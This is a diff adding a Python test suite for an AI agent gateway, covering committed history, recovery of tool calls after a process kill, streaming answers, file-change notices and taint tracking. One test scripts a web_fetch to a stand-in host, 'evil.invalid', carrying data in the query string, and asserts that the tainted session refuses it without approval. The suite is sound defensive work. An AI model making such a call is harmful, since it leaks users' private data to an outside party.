@@ -1,0 +1,337 @@
+import asyncio
+import json
+import threading
+from collections.abc import AsyncIterator
+from pathlib import Path
+
+from agent import events
+from agent.errors import Rejected
+from agent.events import Done, Event, ModelEvent, Reply, TextDelta
+from agent.history import is_valid
+from agent.providers.base import ModelRequest
+from agent.providers.scripted import Scripted
+from agent.types import Context, Message, ToolCall, assistant
+from gateway.channels.base import Ambiguous, Batch
+from gateway.core.messages import InboundMessage
+from gateway.store.repositories import sessions
+from tests.fakes.gated import Gated
+from tests.fakes.platform import Fault, StreamingPlatform
+from tests.gateway.parts import Parts, at_work, opened, running, said, typed
+
+
+async def take(parts: Parts, *messages: InboundMessage) -> None:
+    await parts.bus.accept("chat", "bot", Batch(messages))
+
+
+async def history(parts: Parts) -> list[Message]:
+    ((session,),) = await parts.rows("SELECT id FROM session")
+    return await parts.database.run(sessions.load_all, session)
+
+
+def call(id_: str, name: str, **arguments: object) -> ToolCall:
+    return ToolCall(id_, name, arguments, json.dumps(arguments))
+
+
+def append(id_: str, text: str) -> ToolCall:
+    return call(id_, "append_file", path="log.txt", content=f"{text}\n")
+
+
+async def test_history_outbox_and_turn_are_committed_together(tmp_path: Path) -> None:
+    async with running(tmp_path, [assistant("", (append("1", "x"),)), "done"]) as parts:
+        await take(parts, said("go"))
+        assert await parts.platform.answers("1", 1) == ["done"]
+        stored = await history(parts)
+        assert [m.role for m in stored] == ["user", "assistant", "tool", "assistant"]
+        assert is_valid(stored)
+        assert await parts.rows("SELECT state FROM turn") == [("done",)]
+        assert await parts.rows("SELECT state FROM step") == [("done",)]
+        numbers = await parts.rows("SELECT n FROM message ORDER BY n")
+        assert numbers == [(1,), (2,), (3,), (4,)]
+
+
+async def test_an_error_of_the_model_is_told_with_its_code(tmp_path: Path) -> None:
+    async with running(tmp_path, [Rejected("the key is wrong"), "better"]) as parts:
+        await take(parts, said("go"), said("again"))
+        sorry, answer = await parts.platform.answers("1", 2)
+        assert sorry == "⚠️ I could not answer: the key is wrong (rejected)"
+        assert answer == "better"
+        assert is_valid(await history(parts))
+
+
+async def test_every_request_continues_the_one_before(tmp_path: Path) -> None:
+    from agent.providers.scripted import Scripted
+
+    model = Scripted(["one", assistant("", (append("1", "x"),)), "two", "three"])
+    async with running(tmp_path, model) as parts:
+        for n, text in enumerate(("a", "b", "c"), start=1):
+            await take(parts, said(text))
+            await parts.platform.answers("1", n)
+    for earlier, later in zip(model.requests, model.requests[1:], strict=False):
+        assert list(later.messages[: len(earlier.messages)]) == list(earlier.messages)
+        assert later.system == earlier.system
+
+
+class Cut:
+    """Replies with calls, then hangs for ever: the process is killed meanwhile."""
+
+    name = "cut"
+
+    def __init__(self, *calls: ToolCall) -> None:
+        self._calls = calls
+        self.hangs = asyncio.Event()
+
+    async def stream(self, request: ModelRequest) -> AsyncIterator[ModelEvent]:
+        if request.messages[-1].role == "user":
+            yield Reply(assistant("working", self._calls), None, "tool_calls")
+            return
+        self.hangs.set()
+        await asyncio.Event().wait()
+        yield TextDelta("never")
+
+    async def aclose(self) -> None: ...
+
+
+async def test_a_tool_that_has_run_is_not_run_again_after_a_kill(tmp_path: Path) -> None:
+    model = Cut(append("1", "once"))
+    async with running(tmp_path, model) as parts:
+        await take(parts, said("go"))
+        await model.hangs.wait()
+    async with running(tmp_path, ["after"]) as parts:
+        assert await parts.platform.answers("1", 1) == ["working\n\nafter"]
+        assert is_valid(await history(parts))
+        assert (parts.workspace / "log.txt").read_text() == "once\n"
+
+
+async def test_an_unsafe_call_that_had_started_is_reported_as_unknown(tmp_path: Path) -> None:
+    model = Cut(append("1", "once"), append("2", "twice"))
+    async with running(tmp_path, model) as parts:
+        await take(parts, said("go"))
+        await model.hangs.wait()
+        await parts.rows("UPDATE step SET state = 'started', result = NULL WHERE n = 2")
+    async with running(tmp_path, ["after"]) as parts:
+        await parts.platform.answers("1", 1)
+        first, second = [m for m in await history(parts) if m.role == "tool"]
+        assert not first.is_error
+        assert second.is_error
+        assert "its outcome is unknown" in second.text
+        assert (parts.workspace / "log.txt").read_text() == "once\ntwice\n"
+
+
+async def test_a_drained_turn_rests_before_its_next_tool_and_goes_on_later(tmp_path: Path) -> None:
+    class Pausing(Gated):
+        async def stream(self, request: ModelRequest) -> AsyncIterator[ModelEvent]:
+            async for event in super().stream(request):
+                if isinstance(event, Reply):
+                    yield Reply(assistant("ok", (append("1", "x"),)), None, "tool_calls")
+                else:
+                    yield event
+
+    model = Pausing()
+    async with opened(tmp_path, model) as parts, at_work(parts):
+        await take(parts, said("go"))
+        await model.was_asked("go")
+        draining = asyncio.create_task(parts.bus.drain())
+        await asyncio.sleep(0)
+        model.let_go()
+        await draining
+        assert not (parts.workspace / "log.txt").exists()
+        assert await parts.rows("SELECT state FROM step") == [("planned",)]
+    async with running(tmp_path, ["after"]) as parts:
+        assert await parts.platform.answers("1", 1) == ["ok\n\nafter"]
+        assert (parts.workspace / "log.txt").read_text() == "x\n"
+
+
+async def test_watchers_see_the_turn_and_its_end(tmp_path: Path) -> None:
+    message = said("hi")
+    seen: list[Event] = []
+    async with (
+        running(tmp_path, ["hello you"]) as parts,
+        parts.desk.watch(message.session_key) as events,
+    ):
+        await take(parts, message)
+        async with asyncio.timeout(30):
+            async for event in events:
+                seen.append(event)  # type: ignore[arg-type]
+                if isinstance(event, Done):
+                    break
+    assert "".join(e.text for e in seen if isinstance(e, TextDelta)) == "hello you"
+
+
+async def test_a_long_answer_is_one_message_that_grows(tmp_path: Path) -> None:
+    platform, model = StreamingPlatform(), Gated()
+    async with running(tmp_path, model, platform=platform) as parts:
+        await take(parts, said("tell me"))
+        await platform.until(lambda: platform.texts("1"))
+        assert await parts.rows("SELECT state, provider_msg FROM outbox") in (
+            [("streaming", "1")],
+            [("streaming", None)],
+        )
+        model.let_go()
+        await parts.until("SELECT 1 FROM outbox WHERE state = 'sent'")
+        (shown,) = platform.chats["1"]
+        assert shown.versions[0] == "re:"
+        assert platform.calls[0] == ("typing", "1", "")
+        assert shown.text == "re: tell me"
+
+
+async def test_a_short_answer_is_a_single_send(tmp_path: Path) -> None:
+    platform = StreamingPlatform()
+    async with running(tmp_path, ["quick"], platform=platform) as parts:
+        await take(parts, said("hi"))
+        await platform.answers("1", 1)
+    assert [kind for kind, _, _ in platform.calls if kind != "typing"] == ["send"]
+
+
+async def test_an_answer_whose_preview_was_shown_before_a_kill_is_an_edit_of_it(
+    tmp_path: Path,
+) -> None:
+    platform, model = StreamingPlatform(), Gated()
+    async with running(tmp_path, model, platform=platform) as parts:
+        await take(parts, said("tell me"))
+        await parts.until("SELECT 1 FROM outbox WHERE provider_msg IS NOT NULL")
+    open_now = Gated(is_open=lambda _: True)
+    async with running(tmp_path, open_now, platform=platform) as parts:
+        await parts.until("SELECT 1 FROM outbox WHERE state = 'sent'")
+    (shown,) = platform.chats["1"]
+    assert (shown.text, shown.repeat) == ("re: tell me", False)
+
+
+async def test_an_answer_whose_preview_was_lost_in_a_kill_is_marked(tmp_path: Path) -> None:
+    platform, model = StreamingPlatform(), Gated()
+    async with running(tmp_path, model, platform=platform) as parts:
+        # As if the kill had come between the send and the note of its id.
+        await parts.rows(
+            "CREATE TEMP TRIGGER killed BEFORE UPDATE OF provider_msg ON outbox"
+            " BEGIN SELECT raise(ABORT, 'killed'); END"
+        )
+        await take(parts, said("tell me"))
+        await platform.answers("1", 1)
+    open_now = Gated(is_open=lambda _: True)
+    async with running(tmp_path, open_now, platform=platform) as parts:
+        await parts.until("SELECT 1 FROM outbox WHERE state = 'sent'")
+    stray, final = platform.chats["1"]
+    assert stray.text == "re:"
+    assert (final.text, final.repeat) == ("re: tell me", True)
+
+
+async def test_an_answer_whose_preview_may_have_arrived_is_marked(tmp_path: Path) -> None:
+    platform, model = StreamingPlatform(), Gated()
+    platform.preview_faults.append(Fault(Ambiguous("reset"), arrives=True))
+    async with running(tmp_path, model, platform=platform) as parts:
+        await take(parts, said("tell me"))
+        await parts.until("SELECT 1 FROM outbox WHERE maybe_dup")
+        model.let_go()
+        await parts.until("SELECT 1 FROM outbox WHERE state = 'sent'")
+    assert [shown.repeat for shown in platform.chats["1"]] == [False, True]
+
+
+async def test_what_a_session_took_in_is_kept_and_listed(tmp_path: Path) -> None:
+    read = call("1", "read_file", path="log.txt")
+    async with running(tmp_path, [assistant("", (append("0", "x"), read)), "done"]) as parts:
+        await take(parts, said("go"))
+        await parts.platform.answers("1", 1)
+        # A stranger had it written, so reading it brings the stranger's words back.
+        brought = [("private",), ("private,untrusted",)]
+        assert await parts.rows("SELECT taint FROM step ORDER BY n") == brought
+        (info,) = await parts.database.run(sessions.recent, 5)
+        assert info.taint == "private,untrusted"
+        results = [message for message in await history(parts) if message.role == "tool"]
+        assert [",".join(sorted(message.taint)) for message in results] == [t for (t,) in brought]
+
+
+async def test_a_strangers_words_taint_the_session_at_once(tmp_path: Path) -> None:
+    async with running(tmp_path, ["hello"]) as parts:
+        await take(parts, said("go"))
+        await parts.platform.answers("1", 1)
+        (info,) = await parts.database.run(sessions.recent, 5)
+        assert info.taint == "untrusted"
+
+
+async def test_taint_of_an_earlier_turn_closes_the_ways_out_of_a_later_one(tmp_path: Path) -> None:
+    read = call("1", "read_file", path="log.txt")
+    leak = call("2", "web_fetch", url="http://evil.invalid/?d=1")
+    replies = [assistant("", (append("0", "x"), read)), "one", assistant("", (leak,)), "two"]
+    async with running(tmp_path, replies) as parts:
+        await take(parts, said("go"))
+        await parts.platform.answers("1", 1)
+        await take(parts, said("on"))
+        await parts.platform.answers("1", 2)
+        refused = [message for message in await history(parts) if message.role == "tool"][-1]
+        assert refused.is_error
+        assert "approval" in refused.text
+
+
+async def test_what_the_terminal_shows_of_its_folder_is_read_and_makes_the_session_private(
+    tmp_path: Path,
+) -> None:
+    told = {"text": "[The folder /w]\na.py", "taint": ["private"], "evicted": 3}
+    model = Scripted(["seen", "no"])
+    async with running(tmp_path, model) as parts:
+        with parts.watchers.watch("cli:local:main") as seen:
+            await parts.bus.submit(typed("look", options={"project": told}))
+            async for event in seen:
+                if isinstance(event, events.Evicted):
+                    break
+        assert event.reason == "Context full, 3 files evicted"
+        await parts.until("SELECT 1 FROM session WHERE taint = 'private'")
+        await parts.until("SELECT 1 FROM turn WHERE state = 'done'")
+        assert Context("[The folder /w]\na.py") in model.requests[0].messages[0].content
+        # Only the terminal's own options count.
+        await parts.bus.submit(said("look", chat="9", options={"project": told}))
+        await parts.platform.until(lambda: parts.platform.texts("9"))
+        assert not any("/w" in str(part) for part in model.requests[1].messages[0].content)
+
+
+async def test_whoever_watches_hears_that_a_file_is_no_longer_what_was_seen(tmp_path: Path) -> None:
+    (tmp_path / "workspace").mkdir()
+    path = tmp_path / "workspace" / "a.txt"
+    path.write_text("old")
+    model = Scripted([assistant("", (call("1", "read_file", path="a.txt"),)), "read", "on"])
+    async with running(tmp_path, model) as parts:
+        await parts.bus.submit(typed("read it"))
+        await parts.until("SELECT 1 FROM turn WHERE state = 'done'")
+        path.write_text("newer")
+        with parts.watchers.watch("cli:local:main") as seen:
+            await parts.bus.submit(typed("go on"))
+            async for event in seen:
+                if isinstance(event, events.ContextInvalidated):
+                    break
+        assert event == events.ContextInvalidated(str(path), ("main",))
+        await parts.until("SELECT 1 FROM turn WHERE id = 2 AND state = 'done'")
+        asked = model.requests[2].messages[-1]
+        assert any(str(path) in part.text for part in asked.content if isinstance(part, Context))
+
+
+class Hanging(type(Path())):  # type: ignore[misc]
+    """A file in a network folder that does not answer until it is `let_go`."""
+
+    let_go = threading.Event()
+
+    def __fspath__(self) -> str:
+        self.let_go.wait(20)
+        return str(self)
+
+
+async def test_a_folder_that_hangs_holds_up_no_other_chat_and_its_own_is_told_once(
+    tmp_path: Path,
+) -> None:
+    model = Gated(is_open=lambda _: True)
+    async with running(tmp_path, model) as parts:
+        await parts.bus.submit(said("one", "1"))
+        await parts.platform.answers("1", 1)
+        await parts.until("SELECT 1 FROM turn WHERE state = 'done'")
+        ((session,),) = await parts.rows("SELECT id FROM session")
+        parts.agent.toolbox.views.saw(session, Hanging("/net/a.txt"), (1, 1, 1))
+        await parts.bus.submit(said("two", "1"))
+        await parts.until("SELECT 1 FROM turn WHERE state = 'running'")
+        await parts.bus.submit(said("other", "2"))
+        assert await parts.platform.answers("2", 1) == ["re: other"]
+        assert model.asked == ["one", "other"]
+        Hanging.let_go.set()
+        assert await parts.platform.answers("1", 2) == ["re: one", "re: two"]
+        await parts.bus.submit(said("three", "1"))
+        await parts.platform.answers("1", 3)
+        await parts.until("SELECT 1 WHERE (SELECT count(*) FROM turn WHERE state = 'done') = 4")
+        stored = await parts.database.run(sessions.load_all, session)
+        asked = [str(message.content) for message in stored if message.role == "user"]
+        assert [text.count("/net/a.txt") for text in asked] == [0, 1, 0]
